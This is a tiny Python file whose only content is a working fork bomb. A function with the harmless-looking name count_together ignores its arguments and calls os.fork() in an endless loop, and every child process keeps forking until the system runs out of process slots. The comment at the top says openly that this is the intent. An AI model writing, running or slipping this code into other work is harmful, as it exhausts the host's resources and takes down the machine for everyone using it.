# Forks until there is no room, and each child does the same.
import os
import time


def count_together(workers, times):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)
